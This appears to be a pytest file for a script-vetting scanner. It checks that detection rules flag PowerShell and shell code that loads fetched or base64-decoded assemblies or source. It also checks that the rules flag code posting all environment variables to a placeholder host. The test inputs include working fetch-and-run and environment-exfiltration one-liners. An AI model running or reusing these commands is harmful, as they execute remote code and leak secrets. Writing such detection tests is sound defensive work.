"""The rules about code, held against what scripts of PowerShell load, and against the environment that they send."""

import pytest

from tests.vetting.domain.signals.looking import side
from vetting.domain.signals.code import RULES
from vetting.domain.signals.interface import FileUnderScan

URL = "https://example.invalid/a"
FETCHED = f'(New-Object Net.WebClient).DownloadData("{URL}")'
PACKED = "[Convert]::FromBase64String($x)"


def rules_at(source: str, path: str = "tools/build.ps1") -> set[tuple[str, str]]:
    """Name the rules that find something in a new script, and how bad it is, but for an address that is asked."""
    file = FileUnderScan(None, side(path, source.encode()))
    found = {(one.rule, one.severity.value) for rule in RULES for one in rule.look(file)}
    return found - {("C10", "low")}


@pytest.mark.parametrize(
    ("rule", "source"),
    [
        ("C3", f"[Reflection.Assembly]::Load({FETCHED}).EntryPoint.Invoke($null, $null)"),
        ("C3", f"$b = {FETCHED}; [System.Reflection.Assembly]::Load($b) | Out-Null"),
        ("C3", f"$a = [Reflection.Assembly]; $a::Load((irm {URL}))"),
        ("C3", f'[Reflection.Assembly]::"L`oad"({FETCHED})'),
        ("C3", f"[Runtime.Loader.AssemblyLoadContext]::Default.LoadFromStream((iwr {URL}).RawContentStream)"),
        ("C1", f"[Reflection.Assembly]::Load({PACKED})"),
        ("C1", f"$d = {PACKED}\n[AppDomain]::CurrentDomain.Load($d)"),
        ("C3", f"Add-Type -TypeDefinition (irm {URL})"),
        ("C3", f"$s = irm {URL}\nAdd-Type -TypeDefinition $s -Language CSharp"),
        ("C3", f"$s = (New-Object Net.WebClient).DownloadString('{URL}'); Add-Type $s; [X]::Run()"),
        ("C3", f"iwr {URL}.dll -OutFile $env:TEMP\\a.dll; Add-Type -Path $env:TEMP\\a.dll"),
        ("C3", f"iwr {URL}.psm1 -OutFile a.psm1; Import-Module ./a.psm1"),
    ],
)
def test_what_dotnet_makes_code_of_counts_as_evaluated(rule: str, source: str) -> None:
    """Bytes and source that were fetched or decoded, under whatever name what loads them goes by."""
    assert (rule, "high") in rules_at(source)


@pytest.mark.parametrize(
    "source",
    [
        f"gci env: | ConvertTo-Json | irm -Method Post {URL}",
        f"irm -Method Post {URL} -Body (Get-ChildItem Env: | Out-String)",
        f"$e = dir env:*\nInvoke-WebRequest {URL} -Method POST -Body $e",
        f"$b = [Environment]::GetEnvironmentVariables() | ConvertTo-Json; iwr {URL} -Method Post -Body $b",
        f'(New-Object Net.WebClient).UploadString("{URL}", (ls env: | % {{ $_.Value }} | Out-String))',
        f"Get-Item 'env:\\*' | Select-Object Name, Value | curl -d '@-' {URL}",
    ],
)
def test_an_environment_that_powershell_sends_is_a_theft(source: str) -> None:
    """Piped, as a body, through a variable, by .NET, and by a client."""
    assert ("C4", "high") in rules_at(source)


def test_an_environment_that_a_shell_puts_into_a_request_is_a_theft() -> None:
    """What is substituted is sent as what is piped is."""
    assert ("C4", "high") in rules_at(f'curl -d "$(env | base64)" {URL}\n', "run.sh")


@pytest.mark.parametrize(
    "source",
    [
        "Add-Type -AssemblyName System.IO.Compression.FileSystem",
        '[Reflection.Assembly]::LoadWithPartialName("System.Windows.Forms")',
        f'$r = irm {URL}; [Reflection.Assembly]::LoadFrom("$PSScriptRoot\\lib\\a.dll"); Import-Module $PSScriptRoot\\b',
        f"[xml]$x = irm {URL}; $x.Load('a.xml'); [System.Xml.Linq.XDocument]::Load('b.xml')",
        "Add-Type -TypeDefinition 'public class X { }'; [X]::Load('a')",
        f"gci env: | Out-String | Write-Host\n$r = irm {URL}\nWrite-Host $r",
        f"$p = gci env: | Where-Object Name -eq 'PATH' | Out-String; irm {URL} -Body $p",
        f"gci | irm -Method Post {URL}; gci src; Get-Item envelope:; irm {URL} -Headers @{{A = $env:TOKEN}}",
    ],
)
def test_what_scripts_load_and_print_of_their_own_is_not_found(source: str) -> None:
    """What came along or is installed, source that stands there, an environment that is shown or chosen from."""
    assert rules_at(source) == set()
